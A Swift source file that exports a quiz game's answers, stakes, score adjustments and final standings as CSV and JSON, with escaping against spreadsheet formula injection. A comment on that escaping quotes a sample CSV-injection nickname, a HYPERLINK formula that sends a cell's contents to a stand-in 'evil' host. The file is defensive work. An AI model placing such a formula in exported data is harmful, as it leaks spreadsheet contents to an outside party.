import Foundation
import BuzzerFormats
import BuzzerGame

/// One row of a game's results, flattened for spreadsheets and research (`buzzer replay export`,
/// the host's results download): an answer, or a stake or adjustment that moved a score without
/// one, or a competitor's final standing. Summing `points` per player gives the player's score on
/// screen; the `total` rows are the final standings themselves, teams included.
package struct AnswerRow: Sendable, Equatable {
    /// What a row is.
    package enum Kind: String, Sendable, Equatable {
        /// A player's answer, or (in team mode) the team's answer a member scored on.
        case answer
        /// A stake that moved a score with no answer row of its own: a team's stake, or a
        /// player's stake on a question they did not answer.
        case stake
        /// The host's score adjustment, with its reason.
        case adjustment
        /// A correction made after the game (`game_corrected`): when, by whom and why, in `reason`;
        /// its effect is already in the other rows.
        case correction
        /// A player's or a team's final standing: `running_total` is its score, `rank` its place.
        case total
    }

    /// `CODE@N`.
    package var game: String
    /// 1-based round number in the pack; nil on adjustment and total rows.
    package var round: Int?
    /// 1-based position of the question in the game, in the order it was asked; nil on adjustment and total rows.
    package var question: Int?
    package var questionText: String?
    /// nil on a team's own rows (its stakes, adjustments and total).
    package var player: String?
    /// The player's id in the game, on answer and stake rows: the season export finds the device by
    /// it, to tell two players of one name apart as the league does. Not a column.
    package var playerID: PlayerID? = nil
    package var team: String?
    /// As displayed: option texts, the typed text, the number.
    package var answer: String?
    /// nil when the answer was not judged: a poll or practice question, a kicked player, or a
    /// question never revealed.
    package var correct: Bool?
    /// `correct`, `partial`, `wrong` or `counted` (polls); nil when not judged.
    package var outcome: String?
    package var responseMs: Int64?
    /// Points this row moved, streak bonus and stakes included, after any rescoring; nil on total rows.
    package var points: Int?
    /// A player's row: the player's score so far. A team's stake or adjustment: the team's own
    /// points so far (stakes and adjustments). A total row: the final standing score.
    package var runningTotal = 0
    package var kind: Kind = .answer
    /// The final place, on total rows.
    package var rank: Int? = nil
    /// Why a stake or adjustment moved a score (the host's words for an adjustment).
    package var reason: String? = nil
    /// False on every row of a game whose log is not whole (`ReplayGame.isComplete`): a
    /// spreadsheet keeps the mark with each row, however it is sorted or filtered.
    package var complete = true
}

/// Rows and their CSV and JSON forms. Rows come out in game order: by question, then by the
/// time each answer arrived, then the question's stakes; an adjustment after the question it
/// followed; the final standings (players, then teams, best first) last.
package enum AnswerExport {
    /// The export's columns, in order: the CSV header and the JSON keys. An enum, so the names
    /// that are also protocol names (`question`, `answer`…) are not string literals here.
    package enum Column: String, CaseIterable, Sendable {
        case game, kind, round, question, questionText = "question_text", player, team, answer, correct, outcome
        case responseMs = "response_ms", points, runningTotal = "running_total", rank, reason, complete
    }

    package static let columns = Column.allCases.map(\.rawValue)

    /// Refuses an incomplete game, whose numbers may be wrong, unless `allowIncomplete`: then
    /// its rows go as far as the log does, each marked `complete: false`.
    package static func rows(of game: ReplayGame, allowIncomplete: Bool = false) throws(ReplayError) -> [AnswerRow] {
        if !game.isComplete && !allowIncomplete { throw .incompleteGame(game: game.id, problems: game.errors) }
        guard let room = game.room else {
            throw .damagedGame(game: game.id, issue: game.damage?.description ?? "it has no readable room_created line")
        }
        var builder = RowBuilder(room: room, game: game.id, complete: game.isComplete)
        var adjustments = room.adjustments[...]
        for entry in room.asked {
            while let adjustment = adjustments.first, adjustment.at < entry.shownAt {
                builder.adjustment(adjustment)
                adjustments = adjustments.dropFirst()
            }
            builder.question(entry)
        }
        for adjustment in adjustments { builder.adjustment(adjustment) }
        for correction in game.corrections {
            var line = AnswerRow(game: game.id, kind: .correction, complete: game.isComplete)
            line.question = correction.correction.sequence.map { $0 + 1 }
            line.questionText = correction.correction.sequence.flatMap { sequence in
                room.asked.indices.contains(sequence) ? room.question(room.asked[sequence]).text : nil
            }
            line.reason = "corrected on \(ReplayFormat.time(correction.at).prefix(10)) by the \(correction.by.rawValue): \(correction.reason)"
            builder.rows.append(line)
        }
        builder.standings()
        return builder.rows
    }

    /// Makes the rows, keeping each competitor's running total.
    private struct RowBuilder {
        let room: Room
        let game: String
        let complete: Bool
        var rows: [AnswerRow] = []
        var players: [PlayerID: Int] = [:]
        /// A team's own points (stakes, adjustments), under the team they count for now (merges followed).
        var teams: [TeamID: Int] = [:]

        func playerName(_ id: PlayerID) -> String { room.players[id]?.nickname ?? "player \(id.rawValue)" }
        func teamName(_ id: TeamID?) -> String? { id.flatMap { room.teams[$0]?.name } }
        func playerTeam(_ id: PlayerID) -> String? { teamName(room.players[id]?.team) }

        /// "Owls, merged into The Owls": a merged team's points count for the one it joined.
        func merged(_ id: TeamID) -> String? {
            let live = room.liveTeam(id)
            guard live != id, let from = teamName(id), let into = teamName(live) else { return nil }
            return "\(from), merged into \(into)"
        }

        mutating func add(_ points: Int, player id: PlayerID) -> Int {
            players[id, default: 0] = players[id, default: 0].plus(points)
            return players[id]!
        }

        mutating func add(_ points: Int, team id: TeamID) -> Int {
            teams[room.liveTeam(id), default: 0] = teams[room.liveTeam(id), default: 0].plus(points)
            return teams[room.liveTeam(id)]!
        }

        mutating func question(_ entry: AskedQuestion) {
            let question = room.question(entry)
            let wager = room.pack.rounds[entry.round].wager
            func row(player: String?, team: String?) -> AnswerRow {
                AnswerRow(game: game, round: entry.round + 1, question: entry.sequence + 1, questionText: question.text,
                          player: player, team: team, runningTotal: 0, complete: complete)
            }
            let answers = entry.answers.sorted { a, b in
                a.value.receivedAt != b.value.receivedAt ? a.value.receivedAt < b.value.receivedAt : a.key < b.key
            }
            for (id, recorded) in answers {
                let award = entry.awards[id]
                var line = row(player: playerName(id), team: playerTeam(id))
                line.playerID = id
                line.answer = ReplayFormat.answer(recorded.value, question: question)
                line.correct = award?.outcome.flatMap { $0 == .counted ? nil : $0 == .correct }
                line.outcome = award?.outcome?.rawValue
                line.responseMs = recorded.responseMs
                line.points = award?.points ?? 0
                if wager, let stake = entry.wagers[.player(id)], let points = award?.points, points != 0 {
                    line.reason = "stake of \(stake) \(points > 0 ? "won" : "lost")"
                }
                line.runningTotal = add(line.points!, player: id)
                rows.append(line)
            }
            // Points without an answer of the player's own: a member scored on the team's answer (team
            // mode), or a teamless player's stake on a question left unanswered.
            for (id, award) in entry.awards.sorted(by: { $0.key < $1.key }) where entry.answers[id] == nil {
                var line = row(player: playerName(id), team: playerTeam(id))
                line.playerID = id
                line.points = award.points
                line.correct = award.outcome.flatMap { $0 == .counted ? nil : $0 == .correct }
                line.outcome = award.outcome?.rawValue
                if wager {
                    line.kind = .stake
                    line.reason = "stake of \(entry.wagers[.player(id)] ?? abs(award.points)) lost: not answered"
                } else if let team = entry.memberTeams?[id] ?? room.players[id]?.team, let by = entry.teamAnswers[team],
                          let recorded = entry.answers[by] {
                    line.answer = ReplayFormat.answer(recorded.value, question: question)
                    line.responseMs = recorded.responseMs
                    line.reason = "the team's answer, given by \(playerName(by))"
                }
                line.runningTotal = add(award.points, player: id)
                rows.append(line)
            }
            for (team, points) in entry.teamAwards.sorted(by: { $0.key < $1.key }) {
                var line = row(player: nil, team: teamName(room.liveTeam(team)))
                line.kind = .stake
                line.points = points
                line.correct = points > 0
                line.outcome = points > 0 ? AnswerOutcome.correct.rawValue : AnswerOutcome.wrong.rawValue
                line.reason = "team stake of \(abs(points)) \(points > 0 ? "won" : "lost")" + (merged(team).map { " (\($0))" } ?? "")
                line.runningTotal = add(points, team: team)
                rows.append(line)
            }
        }

        mutating func adjustment(_ adjustment: ScoreAdjusted) {
            var line = AnswerRow(game: game, kind: .adjustment, complete: complete)
            line.reason = adjustment.reason
            if let id = adjustment.player {
                // A removed player's adjustments no longer count, like the rest of their points.
                let counted = room.players[id]?.isRanked == true
                line.player = playerName(id)
                line.team = playerTeam(id)
                line.points = counted ? adjustment.delta : 0
                if !counted { line.reason = adjustment.reason + " (not counted: removed from the game)" }
                line.runningTotal = add(line.points!, player: id)
            } else if let team = adjustment.team, room.teams[team] != nil {
                line.team = teamName(room.liveTeam(team))
                line.points = adjustment.delta
                if let note = merged(team) { line.reason = adjustment.reason + " (\(note))" }
                line.runningTotal = add(adjustment.delta, team: team)
            } else {
                return
            }
            rows.append(line)
        }

        /// The final standings as on screen: players, then teams, best first.
        mutating func standings() {
            let standings = room.standings
            for standing in standings.players {
                rows.append(AnswerRow(game: game, player: standing.nickname, team: teamName(standing.team), runningTotal: standing.score,
                                      kind: .total, rank: standing.rank, complete: complete))
            }
            for standing in standings.teams {
                var line = AnswerRow(game: game, team: standing.name, runningTotal: standing.score, kind: .total, rank: standing.rank, complete: complete)
                line.reason = room.settings.teamStanding == .sum
                    ? "the sum of its members' scores plus its own points" : "the average of its members' scores plus its own points"
                rows.append(line)
            }
        }
    }

    /// RFC 4180: CRLF line ends, a header line, and fields quoted when they hold a comma, a
    /// quote, CR or LF (quotes doubled). Empty fields for absent values. Text a player or a pack
    /// wrote is defused first (`csvText`), so a spreadsheet never runs it as a formula.
    package static func csv(_ rows: [AnswerRow]) -> String {
        var out = columns.joined(separator: ",") + "\r\n"
        for row in rows {
            out += cells(row).map { cell in
                switch cell {
                case .text(let text?): csvField(csvText(text))
                case .text(nil), .value(nil): ""
                case .value(let value?): value
                }
            }.joined(separator: ",") + "\r\n"
        }
        return out
    }

    /// A JSON array with one object per row on its own line, keys in column order, absent
    /// values as null, so files diff well and load with any JSON reader.
    package static func json(_ rows: [AnswerRow]) -> String {
        if rows.isEmpty { return "[]\n" }
        var out = "[\n"
        for (position, row) in rows.enumerated() {
            out += "{"
            out += zip(columns, cells(row)).map { key, cell in
                let value: String = switch cell {
                case .text(let text?): string(text)
                case .text(nil), .value(nil): "null"
                case .value(let value?): value
                }
                return member(key, value)
            }.joined(separator: ",")
            out += position == rows.count - 1 ? "}\n" : "},\n"
        }
        return out + "]\n"
    }

    /// A CSV cell: text from the game (names, answers, questions), or a number or flag the export made.
    enum Cell: Equatable {
        case text(String?)
        /// A number or flag; nil when absent (empty in CSV, null in JSON).
        case value(String?)
    }

    /// A row's cells, in `columns` order.
    static func cells(_ row: AnswerRow) -> [Cell] {
        [.text(row.game), .text(row.kind.rawValue), .value(row.round.map(String.init)), .value(row.question.map(String.init)),
         .text(row.questionText), .text(row.player), .text(row.team), .text(row.answer),
         .value(row.correct.map { $0 ? "true" : "false" }), .text(row.outcome), .value(row.responseMs.map { String($0) }),
         .value(row.points.map(String.init)), .value(String(row.runningTotal)), .value(row.rank.map(String.init)), .text(row.reason),
         .value(row.complete ? "true" : "false")]
    }

    /// Text that starts with `=`, `+`, `-`, `@`, tab or CR gets a leading `'`, which spreadsheets
    /// show as text instead of running it as a formula (OWASP "CSV Injection"): a nickname such as
    /// `=HYPERLINK("http://evil/?"&A1,"win")` reaches the host's spreadsheet. A plain number (a
    /// typed answer of -40) is left as it is: it cannot be a formula.
    static func csvText(_ text: String) -> String {
        guard let first = text.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first), !isPlainNumber(text) else { return text }
        return "'" + text
    }

    /// Digits with an optional sign and decimal point, as a number answer is written: nothing a
    /// spreadsheet evaluates.
    private static func isPlainNumber(_ text: String) -> Bool {
        text.utf8.allSatisfy { ($0 >= 0x30 && $0 <= 0x39) || $0 == UInt8(ascii: ".") || $0 == UInt8(ascii: "-") || $0 == UInt8(ascii: "+") }
            && Double(text) != nil
    }

    /// Outside text as one CSV field: defused, then quoted if it must be.
    package static func csvCell(_ text: String) -> String { csvField(csvText(text)) }

    static func csvField(_ text: String) -> String {
        guard text.contains(where: { $0 == "," || $0 == "\"" || $0 == "\r" || $0 == "\n" || $0 == "\r\n" }) else { return text }
        return "\"" + text.replacingOccurrences(of: "\"", with: "\"\"") + "\""
    }

    private static func member(_ key: String, _ value: String) -> String { "\"\(key)\":\(value)" }

    /// A JSON string literal (RFC 8259 §7).
    package static func string(_ text: String) -> String { JSONStringLiteral.make(text) }
}
